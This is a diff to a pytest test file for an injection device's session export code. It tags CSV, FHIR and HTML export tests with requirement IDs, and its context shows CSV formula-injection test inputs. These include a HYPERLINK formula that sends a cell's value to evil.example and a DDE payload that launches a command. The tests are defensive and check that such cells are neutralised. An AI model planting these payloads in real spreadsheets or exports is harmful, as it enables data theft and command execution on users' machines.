@@ -49,6 +49,7 @@ def treated(store):
     return sid
 
 
+@pytest.mark.req("SR-061")
 def test_csv_and_json_have_one_row_per_delivery(store, treated):
     rows = list(csv.DictReader(io.StringIO(store.export("csv", treated))))
     assert [r["kind"] for r in rows] == ["prime", "point", "point", "point", "point"]
@@ -57,6 +58,7 @@ def test_csv_and_json_have_one_row_per_delivery(store, treated):
                                                 for r in rows]
 
 
+@pytest.mark.req("SR-061")
 def test_fhir_medication_administration_parses_back_with_the_library(store, treated):
     text = store.export("fhir", treated)
     ma = MedicationAdministration.model_validate_json(text)
@@ -84,6 +86,7 @@ def test_fhir_medication_administration_parses_back_with_the_library(store, trea
     assert any("OCCLUSION" in n for n in notes) and any(n.startswith("Primed 10.000 uL") for n in notes)
 
 
+@pytest.mark.req("SR-061")
 @pytest.mark.parametrize("outcome, status", [("complete", "completed"), ("aborted", "stopped"), (None, "in-progress")])
 def test_fhir_status_follows_the_outcome(store, outcome, status):
     prog = programs.load(PROGRAMS / "test-dose.toml")
@@ -119,6 +122,7 @@ def test_fhir_of_every_session_is_a_bundle(store, treated):
     assert [e.resource.id for e in bundle.entry] == [f"mesoinject-session-{i}" for i in (treated, treated + 1)]
 
 
+@pytest.mark.req("SR-061")
 def test_html_report_of_a_session(store, treated):
     page = store.export("html", treated)
     for text in ("P-17", "dr x", "lidocaine 1%, lot L2301", "SIM-0042", "firmware 0.1.0", "BD 1 mL, 30G 4 mm",
@@ -163,6 +167,7 @@ FORMULAS = {"operator": '=HYPERLINK("http://evil.example/?"&A1,"open")', "drug":
             "drug_lot": "@SUM(1+1)*cmd|' /C calc'!A0", "patient_ref": "-2+3"}
 
 
+@pytest.mark.req("SR-078")
 def test_csv_cells_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers(store):
     prog = programs.parse({**_POINT_TOML, "drug": FORMULAS["drug"]})
     sid = store.begin_session(IDENT, prog, patient_ref=FORMULAS["patient_ref"], operator=FORMULAS["operator"],
@@ -179,6 +184,7 @@ _POINT_TOML = {"name": "p", "technique": "point-by-point", "drug": "d", "syringe
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
 
+@pytest.mark.req("SR-078")
 @settings(max_examples=200, deadline=None)
 @given(texts=st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n\"',;a1 ") | st.characters(), max_size=12),
                       min_size=7, max_size=7),
